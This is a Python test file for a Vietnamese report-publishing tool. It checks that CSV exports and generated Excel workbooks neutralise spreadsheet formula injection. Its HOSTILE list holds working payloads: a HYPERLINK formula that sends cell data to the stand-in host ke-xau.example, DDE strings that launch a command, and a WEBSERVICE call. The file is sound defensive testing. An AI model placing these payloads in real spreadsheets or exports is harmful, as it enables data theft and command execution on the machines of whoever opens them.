"""No formula from the data reaches a spreadsheet: every CSV download of an edition and every
cell of the generated workbook, built from data full of hostile strings, is scanned.

OWASP (CSV injection): a text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage
return is shown as text (`'` prefix in a CSV, `quotePrefix` in an .xlsx); real negative
numbers stay numbers; the workbook read back gives the original text.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import matplotlib
import pytest
import yaml
from openpyxl import load_workbook

matplotlib.use("Agg")

from khuyencong.content.chapters.glue import Table, table
from khuyencong.content.chapters.registry import ANNUAL, CHAPTERS
from khuyencong.core.escape import csv_cell, formula_like
from khuyencong.inputs import report_sheet
from khuyencong.inputs.dataset import load_dataset
from khuyencong.inputs.workbook import read_workbook, write_template

# Strings an attacker (or a clumsy author) may type; none holds a digit, so the prose rules
# of the texts accept them.
HOSTILE = [
    '=HYPERLINK("http://ke-xau.example/?d="&A1;"bấm vào đây")',
    "+cmd|' /C calc'!A",
    "-cmd|' /C calc'!A",
    "@SUM(A:A)",
    '=WEBSERVICE("http://ke-xau.example")',
]
# Our own formula in the workbook: the activity's name looked up from its code (no data in it).
OWN_FORMULA = re.compile(
    r'=IFERROR\(VLOOKUP\([A-Z]+\d+,\'Danh mục\'!\$[A-Z]+\$2:\$[A-Z]+\$\d+,2,FALSE\),""\)'
)


@pytest.mark.parametrize(
    "text, dangerous",
    [
        ("=1+1", True),
        ("+84 912", True),
        ("-x", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\r=1", True),
        ("-12", False),  # a real negative number stays a number
        ("-1.905,5", False),
        ("+3", False),
        ("-84,3%", False),
        ("-", False),  # the tables' mark for "no figure"
        ("-1+2", True),  # an operator makes it a formula
        ("Sơn La", False),
        ("", False),
    ],
)
def test_formula_like(text, dangerous):
    assert formula_like(text) is dangerous


def test_csv_cell_prefixes_only_formulas():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("@x") == "'@x"
    assert csv_cell(-12) == "-12"  # a number is written as it is
    assert csv_cell("-1.905") == "-1.905"
    assert csv_cell("a = b") == "a = b"  # only the first character matters


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert_csv(text: str) -> None:
    for cell in csv_cells(text):
        assert not formula_like(cell) or cell.startswith("'"), cell


def test_long_table_csv_neutralises_formulas():
    rows = [[HOSTILE[i % len(HOSTILE)], -i, f"-{i},5"] for i in range(150)]
    t = table("ket_qua", rows, ["=Tiêu đề", "Số", "Tỷ lệ"], "Kết quả")
    assert t.csv is not None
    lines = list(csv.reader(io.StringIO(t.csv)))
    assert lines[0][0] == "'=Tiêu đề"
    assert lines[1] == ["'" + HOSTILE[0], "0", "-0,5"]
    assert lines[3] == ["'" + HOSTILE[2], "-2", "-2,5"]  # numbers as they are
    assert_inert_csv(t.csv)


def hostile_data(data: Path, rows: int = 120) -> None:
    """Results whose unit and note are formulas (more than a page of them: a CSV download),
    a paragraph, a report field and an activity's name that are formulas too."""
    with (data / "results.csv").open("a", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        for i in range(rows):
            unit = f"{HOSTILE[i % len(HOSTILE)]} {i}"
            w.writerow(
                ["son-la", 2025, 2025, "nhan-hieu", "local", 1, unit, "", "exact", "seed-000"]
                + [HOSTILE[(i + 1) % len(HOSTILE)]]
            )
    path = data / "texts" / "son-la" / "2025.yaml"
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    doc["limitations"].append(HOSTILE[0])
    doc["document"]["place"] = HOSTILE[3]
    doc["document"]["recipients"] = [HOSTILE[1], HOSTILE[2]]
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    acts = data / "activities.csv"
    table_rows = list(csv.reader(io.StringIO(acts.read_text(encoding="utf-8"))))
    table_rows[1][table_rows[0].index("name_vi")] = HOSTILE[4]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(table_rows)
    acts.write_text(out.getvalue(), encoding="utf-8")


def tables_of(value: object) -> list[Table]:
    """Every table of a chapter's result, nested parts included."""
    if isinstance(value, Table):
        return [value]
    if dataclasses.is_dataclass(value):
        return [t for f in dataclasses.fields(value) for t in tables_of(getattr(value, f.name))]
    return []


def test_every_csv_download_of_an_edition_is_inert(data_copy: Path):
    hostile_data(data_copy)
    data = load_dataset(data_copy)
    downloads = []
    for entry in (c for c in CHAPTERS if c.edition == ANNUAL):  # an annual edition's pages
        result = entry.build()(data, "son-la", 2025)
        downloads += [t.csv for t in tables_of(result) if t.csv]
    assert downloads, "the hostile results make at least one table long enough for a CSV"
    cells = [c for text in downloads for c in csv_cells(text)]
    assert any(c.startswith("'" + HOSTILE[0][:10]) for c in cells)  # neutralised, still there
    for text in downloads:
        assert_inert_csv(text)


def test_every_cell_of_the_workbook_is_inert_and_reads_back(data_copy: Path, tmp_path: Path):
    hostile_data(data_copy, rows=3)
    book, _ = write_template(data_copy, "son-la", 2025, tmp_path / "book.xlsx")
    wb = load_workbook(book)
    seen_prefixed = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert OWN_FORMULA.fullmatch(str(cell.value)), (ws.title, cell.coordinate)
                    continue
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
                    seen_prefixed.add(ws.title)
    # The hostile strings reach the table, text, list and report sheets, all as text.
    assert {"Kết quả", "Văn bản", "Danh mục", report_sheet.SHEET} <= seen_prefixed
    content = read_workbook(book)
    units = {r.cells["unit"] for r in content.tables["results"]}
    assert f"{HOSTILE[0]} 0" in units  # the original text, no `'` added
    assert content.texts is not None
    assert HOSTILE[0] in content.texts["limitations"]
    assert content.texts["document"]["place"] == HOSTILE[3]
    assert content.texts["document"]["recipients"] == [HOSTILE[1], HOSTILE[2]]


def test_a_formula_without_value_in_the_report_sheet_is_refused(data_copy: Path, tmp_path: Path):
    """It used to erase its field silently (place: Sơn La → null, exit 0)."""
    book, _ = write_template(data_copy, "son-la", 2025, tmp_path / "book.xlsx")
    wb = load_workbook(book)
    ws = wb[report_sheet.SHEET]
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == "Địa danh")
    ws.cell(row, 2).value = '=CONCAT("Sơn"," La")'
    wb.save(book)
    problems = [str(p) for p in read_workbook(book).problems]
    assert any(
        p.startswith(f"{report_sheet.SHEET}:{row}: Nội dung —") and "chưa có giá trị" in p
        for p in problems
    ), problems


@pytest.mark.slow
def test_every_published_csv_of_a_hostile_edition_is_inert(data_copy: Path, tmp_path: Path):
    """End to end: the CSV files the build publishes beside the pages."""
    from khuyencong.core.request import BuildRequest, ProjectPaths
    from khuyencong.pipeline.build import build_edition

    hostile_data(data_copy)
    project = Path(__file__).resolve().parents[1]
    where = ProjectPaths.resolve(project, data_dir=data_copy, out_root=tmp_path / "out")
    site = build_edition(BuildRequest.of("son-la", 2025, fmt="html"), where, say=lambda s: None)
    published = sorted(site.rglob("*.csv"))
    assert published
    texts = [p.read_text(encoding="utf-8-sig") for p in published]
    assert any("'" + HOSTILE[0][:10] in t for t in texts)
    for text in texts:
        assert_inert_csv(text)
